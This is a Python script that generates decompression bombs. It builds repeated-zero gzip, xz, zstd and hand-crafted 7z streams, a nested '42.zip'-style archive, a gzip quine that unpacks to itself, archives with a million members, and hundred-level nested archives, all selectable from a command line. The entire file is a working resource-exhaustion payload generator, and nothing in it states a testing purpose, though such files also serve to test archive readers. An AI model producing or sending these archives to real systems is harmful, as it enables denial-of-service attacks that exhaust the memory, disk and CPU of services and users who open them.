#!/usr/bin/env python3
"""Writes archives that are made to wear out what reads them.

usage: make_bomb.py KIND OUT

KIND is one of the names in KINDS below.
"""
import gzip
import io
import lzma
import os
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

STEP = 16 << 20


def zeros_gz(n=256):
    """n x 16 MiB of zeros, deflated once and repeated."""
    z = bytes(STEP)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    part = c.compress(z) + c.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(z, crc)
    return (b"\x1f\x8b\x08" + bytes(6) + b"\3" + part * n + b"\1\0\0\xff\xff" +
            struct.pack("<II", crc, n * STEP & 0xffffffff))


def zeros_xz():
    return lzma.compress(bytes(4 * STEP)) * 64


def by_program(*command):
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, "zeros"), "wb") as f:
            f.truncate(4 * STEP)
        subprocess.run(command, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       cwd=folder)
        with open(os.path.join(folder, "out"), "rb") as f:
            return f.read()


def zeros_zst():
    return by_program("bsdtar", "--format", "raw", "--zstd", "-cf", "out", "zeros") * 64


def zeros_7z():
    """A 7z of one stored pack stream that is replaced by a deflated one of 4 GiB: by hand, for no
    packer would do it in a second."""
    part = zeros_gz()[10:-8]
    plain = 256 * STEP
    def number(n):  # of 7z: as many leading ones as bytes follow
        return b"\xff" + struct.pack("<Q", n)
    name = "zeros".encode("utf-16-le") + b"\0\0"
    head = (b"\1" + b"\4" +
            b"\6" + number(0) + number(1) + b"\x09" + number(len(part)) + b"\0" +
            b"\7\x0b" + number(1) + b"\0" + b"\1" + b"\3\4\1\x08" +
            b"\x0c" + number(plain) + b"\0" + b"\x08\0" +
            b"\0" +
            b"\5" + number(1) + b"\x11" + number(1 + len(name)) + b"\0" + name + b"\0" +
            b"\0")
    start = struct.pack("<QQI", len(part), len(head), zlib.crc32(head))
    return (b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + part + head)


def zip_of(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in files:
            z.writestr(name, data)
    return out.getvalue()


def forty_two():
    """Zips of sixteen zips, five levels, zeros at the bottom; the known one has 4 PB."""
    inner = zip_of([("0.dll", bytes(64 << 20))])
    for _ in range(5):
        inner = zip_of([(f"lib {i}.zip", inner) for i in range(16)])
    return inner


def quine_gz():
    """Unpacks to itself. Every step copies a literal (L) or repeats what was put out (R), each in
    five bytes; the checksum in it is found by linear algebra (after R. Cox, 2010)."""
    class Bits:
        def __init__(self):
            self.v, self.n = 0, 0

        def put(self, value, n):
            self.v |= value << self.n
            self.n += n

        def code(self, value, n):  # Huffman codes stand with their first bit first
            for i in range(n - 1, -1, -1):
                self.put(value >> i & 1, 1)

    def literal(n):
        return struct.pack("<BHH", 0, n, n ^ 0xffff)

    def repeat20():
        b = Bits()
        b.put(0b010, 3)
        for _ in range(2):  # ten bytes from twenty back, twice
            b.code(264 - 256, 7)
            b.code(8, 5)
            b.put(20 - 17, 3)
        b.code(0, 7)
        assert b.n == 40
        return b.v.to_bytes(5, "little")

    def repeat12_last():
        b = Bits()
        b.put(0b011, 3)
        b.code(265 - 256, 7)
        b.put(12 - 11, 1)
        b.code(6, 5)
        b.put(12 - 9, 2)
        b.code(0, 7)
        return b.v.to_bytes(4, "little")

    def file_with(crc):
        head = b"\x1f\x8b\x08\x08" + bytes(6) + b"q.gz\0"
        l5, l20, r20, l12, l0 = literal(5), literal(20), repeat20(), literal(12), literal(0)
        body = (head + l20 + head + l20 + r20 + l5 + r20 + l5 + l5 + l20 + r20 + l5 + l5 + l20 + r20 +
                l20 + r20 + l20 + r20 + l20 + r20 + l20 + r20 + l0 + l0 + l12 + r20 + l0 + l0 + l12)
        size = len(body) + 12 + 4 + 8
        tail = repeat12_last() + struct.pack("<II", crc, size)
        return body + tail + tail

    base = zlib.crc32(file_with(0))
    rows = []  # (A + I) v = base, over bits
    columns = [zlib.crc32(file_with(1 << i)) ^ base ^ 1 << i for i in range(32)]
    for bit in range(32):
        rows.append(sum((columns[i] >> bit & 1) << i for i in range(32)) | (base >> bit & 1) << 32)
    crc = 0
    done = []
    for i in range(32):
        pivot = next(r for r in rows if r >> i & 1 and r not in done)
        rows = [r ^ pivot if r >> i & 1 and r != pivot else r for r in rows]
        done = [r ^ pivot if r >> i & 1 else r for r in done] + [pivot]
    for i, r in enumerate(done):
        crc |= (r >> 32 & 1) << i
    made = file_with(crc)
    assert gzip.decompress(made) == made
    return made


def members_tar():
    """A million empty members, packed (512 MB of headers)."""
    t = tarfile.TarInfo("e")
    head = t.tobuf(tarfile.USTAR_FORMAT)
    return gzip.compress(head * 1000000 + bytes(1024), 1)


def members_zip():
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"e"
    n = 1000000
    entry = struct.pack("<IHHHHHHIIIHHHHHI", 0x02014b50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0)
    parts = [entry + struct.pack("<I", i * len(local)) + b"e" for i in range(n)]
    parts = b"".join(parts)
    at = n * len(local)
    end = (struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, n, n, len(parts), at) +
           struct.pack("<IIQI", 0x07064b50, 0, at + len(parts), 1) +
           struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xffff, 0xffff, 0xffffffff, 0xffffffff, 0))
    return local * n + parts + end


def nest(pack):
    def make():
        data = b"the deepest of a hundred\n"
        for _ in range(100):
            data = pack(data)
        return data
    return make


KINDS = {
    "zeros.gz": zeros_gz,
    "zeros.xz": zeros_xz,
    "zeros.zst": zeros_zst,
    "zeros.7z": zeros_7z,
    "42.zip": forty_two,
    "quine.gz": quine_gz,
    "members.tar.gz": members_tar,
    "members.zip": members_zip,
    "nest.zip": nest(lambda data: zip_of([("n.zip", data)], zipfile.ZIP_STORED)),
    "nest.gz": nest(gzip.compress),
    "nest.xz": nest(lzma.compress),
}


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in KINDS:
        sys.exit(__doc__)
    made = KINDS[sys.argv[1]]()
    with open(sys.argv[2], "wb") as f:
        f.write(made)


if __name__ == "__main__":
    main()
